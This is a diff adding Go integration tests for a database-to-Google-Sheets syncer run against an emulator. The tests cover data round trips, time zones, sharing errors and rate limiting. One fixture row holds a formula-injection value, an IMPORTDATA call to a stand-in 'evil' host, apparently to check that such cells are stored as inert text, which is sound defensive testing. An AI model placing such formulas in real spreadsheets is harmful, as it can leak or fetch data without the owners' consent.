@@ -1,0 +1,289 @@
+package sheets
+
+// Integration tests: the real google.golang.org/api/sheets/v4 client, this
+// package's Client, and the sheets/emulator server, end to end.
+
+import (
+	"context"
+	"errors"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	sheetsapi "google.golang.org/api/sheets/v4"
+
+	"github.com/syncd/syncd/sheets/emulator"
+	"github.com/syncd/syncd/syncer"
+)
+
+func startEmulator(t *testing.T, opts emulator.Options) (*emulator.Server, *httptest.Server) {
+	t.Helper()
+	emu := emulator.New(opts)
+	srv := httptest.NewServer(emu)
+	t.Cleanup(func() {
+		srv.Close()
+		_ = emu.Close()
+	})
+	return emu, srv
+}
+
+var shiftCols = []syncer.Column{
+	{Name: "shift_id", Type: "bigint", Kind: syncer.KindInt, Scale: -1},
+	{Name: "shift_date", Type: "date", Kind: syncer.KindDate, Scale: -1},
+	{Name: "employee", Type: "text", Kind: syncer.KindText, Scale: -1},
+	{Name: "total_sales", Type: "numeric(12,2)", Kind: syncer.KindNumeric, Scale: 2},
+	{Name: "closed", Type: "boolean", Kind: syncer.KindBool, Scale: -1},
+	{Name: "started_at", Type: "timestamp with time zone", Kind: syncer.KindTimestampTZ, Scale: -1},
+	{Name: "meta", Type: "jsonb", Kind: syncer.KindJSON, Scale: -1},
+	{Name: "big", Type: "numeric", Kind: syncer.KindNumeric, Scale: -1},
+}
+
+var shiftRows = [][]syncer.Value{
+	{syncer.Text("1"), syncer.Text("2025-01-31"), syncer.Text("=IMPORTDATA(\"http://evil\")"), syncer.Text("12.50"), syncer.Text("t"),
+		syncer.Text("2025-01-31 08:00:00.25+00"), syncer.Text(`{"a":[1,2]}`), syncer.Text("123456789012345678.9")},
+	{syncer.Text("9007199254740993"), syncer.Text("0044-03-15 BC"), syncer.Text("+7 999 123"), syncer.Text("0.00"), syncer.Text("f"),
+		syncer.Text("2025-10-26 01:30:00+00"), syncer.Text(`null`), syncer.Null},
+	{syncer.Text("3"), syncer.Null, syncer.Null, syncer.Text("-1234567.89"), syncer.Null, syncer.Null, syncer.Null, syncer.Text("0")},
+}
+
+func encodeRows(t *testing.T, loc *time.Location, rows [][]syncer.Value) [][]syncer.Cell {
+	t.Helper()
+	out := make([][]syncer.Cell, len(rows))
+	for i, r := range rows {
+		for j, v := range r {
+			c, _ := Codec{}.Encode(shiftCols[j], v, loc)
+			out[i] = append(out[i], c)
+		}
+	}
+	return out
+}
+
+func formats() []syncer.NumberFormat {
+	var f []syncer.NumberFormat
+	for _, c := range shiftCols {
+		f = append(f, Codec{}.Format(c))
+	}
+	return f
+}
+
+func headers() []string {
+	var h []string
+	for _, c := range shiftCols {
+		h = append(h, c.Name)
+	}
+	return h
+}
+
+// readBack reads the tab and decodes every data row.
+func readBack(t *testing.T, c *Client, tab string, loc *time.Location) [][]syncer.Value {
+	t.Helper()
+	got, err := c.Read(context.Background(), []syncer.Range{{Tab: tab, StartRow: 1, EndCol: len(shiftCols)}})
+	if err != nil {
+		t.Fatalf("Read: %v", err)
+	}
+	var out [][]syncer.Value
+	for i, row := range got[0] {
+		vals := make([]syncer.Value, len(shiftCols))
+		for j := range shiftCols {
+			var cell syncer.Cell
+			if j < len(row) {
+				cell = row[j]
+			}
+			v, err := Codec{}.Decode(shiftCols[j], cell, loc)
+			if err != nil {
+				t.Fatalf("row %d col %s: Decode(%+v): %v", i, shiftCols[j].Name, cell, err)
+			}
+			vals[j] = v
+		}
+		out = append(out, vals)
+	}
+	return out
+}
+
+func sameRows(t *testing.T, got, want [][]syncer.Value) {
+	t.Helper()
+	if len(got) != len(want) {
+		t.Fatalf("%d rows, want %d: %v", len(got), len(want), got)
+	}
+	for i := range want {
+		for j := range want[i] {
+			if got[i][j] != want[i][j] {
+				t.Errorf("row %d %s = %+v, want %+v", i, shiftCols[j].Name, got[i][j], want[i][j])
+			}
+		}
+	}
+}
+
+func TestEmulatorApplyReadInfoRoundTrip(t *testing.T) {
+	emu, srv := startEmulator(t, emulator.Options{})
+	id := emu.CreateSpreadsheet("Payroll")
+	c, err := New(context.Background(), Options{SpreadsheetID: id, Endpoint: srv.URL, Quota: NewQuota(0, 0, nil)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	ctx := context.Background()
+	info, err := c.Info(ctx)
+	if err != nil {
+		t.Fatalf("Info: %v", err)
+	}
+	if info.Title != "Payroll" || len(info.Tabs) != 1 || info.Tabs[0].Title != "Sheet1" {
+		t.Fatalf("Info = %+v", info)
+	}
+	loc := info.TimeZone
+
+	calls, err := c.Apply(ctx, []syncer.Op{
+		syncer.AddTab{SheetID: 42, Title: "Shifts 2025", Header: headers(), Formats: formats()},
+		syncer.AppendRows{SheetID: 42, Rows: encodeRows(t, loc, shiftRows), Formats: formats()},
+	})
+	if err != nil || calls != 1 {
+		t.Fatalf("Apply(AddTab, AppendRows) = %d calls, %v; want 1", calls, err)
+	}
+	info, err = c.Info(ctx)
+	if err != nil {
+		t.Fatal(err)
+	}
+	tab, ok := info.Tab("Shifts 2025")
+	if !ok || tab.SheetID != 42 || tab.FrozenRows != 1 {
+		t.Fatalf("new tab = %+v (found %v); want sheet 42 with a frozen header", tab, ok)
+	}
+	head, err := c.Read(ctx, []syncer.Range{{Tab: "Shifts 2025", EndRow: 1, EndCol: len(shiftCols)}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(head[0]) != 1 || len(head[0][0]) != len(shiftCols) || head[0][0][3] != syncer.StringCell("total_sales") {
+		t.Errorf("header row = %+v", head)
+	}
+	sameRows(t, readBack(t, c, "Shifts 2025", loc), shiftRows)
+
+	// Overwrite row 2 (0-based: the first data row is 1), delete the
+	// last data row, rename the tab: one call.
+	changed := [][]syncer.Value{append([]syncer.Value(nil), shiftRows[0]...)}
+	changed[0][3] = syncer.Text("99.99")
+	changed[0][2] = syncer.Text("Ann")
+	calls, err = c.Apply(ctx, []syncer.Op{
+		syncer.WriteRows{SheetID: 42, Row: 1, Rows: encodeRows(t, loc, changed)},
+		syncer.DeleteRows{SheetID: 42, Start: 3, End: 4},
+		syncer.RenameTab{SheetID: 42, Title: "Shifts"},
+	})
+	if err != nil || calls != 1 {
+		t.Fatalf("second Apply = %d calls, %v", calls, err)
+	}
+	sameRows(t, readBack(t, c, "Shifts", loc), [][]syncer.Value{changed[0], shiftRows[1]})
+	if st := c.Stats(); st.WriteCalls != 2 || st.ReadCalls != 5 || st.RateLimited != 0 {
+		t.Errorf("stats %+v", st)
+	}
+}
+
+func TestEmulatorTimeZoneComesFromTheSpreadsheet(t *testing.T) {
+	emu, srv := startEmulator(t, emulator.Options{})
+	id := emu.CreateSpreadsheet("TZ")
+	c, err := New(context.Background(), Options{SpreadsheetID: id, Endpoint: srv.URL, Quota: NewQuota(0, 0, nil)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := c.svc.Spreadsheets.BatchUpdate(id, batchSetTimeZone("Asia/Kolkata")).Do(); err != nil {
+		t.Skipf("emulator cannot change the time zone: %v", err)
+	}
+	info, err := c.Info(context.Background())
+	if err != nil || info.TimeZone.String() != "Asia/Kolkata" {
+		t.Fatalf("Info = %v, %v; want Asia/Kolkata", info.TimeZone, err)
+	}
+}
+
+func TestEmulatorAccessErrorsNameTheAccount(t *testing.T) {
+	emu, srv := startEmulator(t, emulator.Options{})
+	sa, key, err := emulator.GenerateServiceAccount("syncd@demo.iam.gserviceaccount.com", srv.URL+"/token")
+	if err != nil {
+		t.Fatal(err)
+	}
+	emu.AddServiceAccount(sa)
+	path := filepath.Join(t.TempDir(), "sa.json")
+	if err := os.WriteFile(path, key, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	id := emu.CreateSpreadsheet("Private")
+	if err := emu.Share(id, "someone-else@demo.iam.gserviceaccount.com"); err != nil {
+		t.Fatal(err)
+	}
+	open := func(id string) *Client {
+		c, err := New(context.Background(), Options{SpreadsheetID: id, Endpoint: srv.URL, CredentialsFile: path, Quota: NewQuota(0, 0, nil)})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return c
+	}
+	_, err = open(id).Info(context.Background())
+	if !errors.Is(err, ErrNotShared) || !strings.Contains(err.Error(), "not shared with syncd@demo.iam.gserviceaccount.com: share it with that address as Editor") {
+		t.Errorf("unshared spreadsheet: %v", err)
+	}
+	_, err = open("no-such-spreadsheet").Info(context.Background())
+	if !errors.Is(err, ErrNotFound) || !strings.Contains(err.Error(), "spreadsheet no-such-spreadsheet not found") {
+		t.Errorf("missing spreadsheet: %v", err)
+	}
+	if err := emu.Share(id, "syncd@demo.iam.gserviceaccount.com"); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := open(id).Info(context.Background()); err != nil {
+		t.Errorf("after sharing: %v", err)
+	}
+}
+
+// TestEmulatorQuotaNeverSees429 runs more writes than the quota allows in
+// a minute, with the emulator enforcing the same per-minute quota on the
+// same (fake) clock: our pacing must keep every request under it. A client
+// paced faster than the emulator's quota is the control: it must see 429s.
+func TestEmulatorQuotaNeverSees429(t *testing.T) {
+	for _, tt := range []struct {
+		name        string
+		clientLimit int
+		want429     bool
+	}{
+		{"paced at the quota", 3, false},
+		{"paced above the quota (control)", 6, true},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			clock := newFakeClock()
+			emu, srv := startEmulator(t, emulator.Options{WriteQuota: 3, ReadQuota: 3, Now: clock.Now})
+			id := emu.CreateSpreadsheet("Quota")
+			c, err := New(context.Background(), Options{SpreadsheetID: id, Endpoint: srv.URL, Clock: clock,
+				Quota: NewQuota(tt.clientLimit, tt.clientLimit, clock)})
+			if err != nil {
+				t.Fatal(err)
+			}
+			const writes = 8
+			done := make(chan error, 1)
+			go func() {
+				for i := 0; i < writes; i++ {
+					op := syncer.WriteRows{SheetID: 0, Row: i, Rows: [][]syncer.Cell{{syncer.NumberCell(float64(i))}}}
+					if _, err := c.Apply(context.Background(), []syncer.Op{op}); err != nil {
+						done <- err
+						return
+					}
+				}
+				done <- nil
+			}()
+			if err := clock.runUntil(t, done); err != nil {
+				t.Fatal(err)
+			}
+			st := c.Stats()
+			rejected := emu.Stats()[id].Rejected
+			if tt.want429 != (st.RateLimited > 0) || int64(st.RateLimited) != rejected {
+				t.Errorf("client saw %d 429s, emulator rejected %d; want429 = %v", st.RateLimited, rejected, tt.want429)
+			}
+			if st.WriteCalls-st.Retries != writes {
+				t.Errorf("stats %+v for %d writes", st, writes)
+			}
+		})
+	}
+}
+
+func batchSetTimeZone(tz string) *sheetsapi.BatchUpdateSpreadsheetRequest {
+	return &sheetsapi.BatchUpdateSpreadsheetRequest{Requests: []*sheetsapi.Request{{
+		UpdateSpreadsheetProperties: &sheetsapi.UpdateSpreadsheetPropertiesRequest{
+			Properties: &sheetsapi.SpreadsheetProperties{TimeZone: tz}, Fields: "timeZone",
+		},
+	}}}
+}
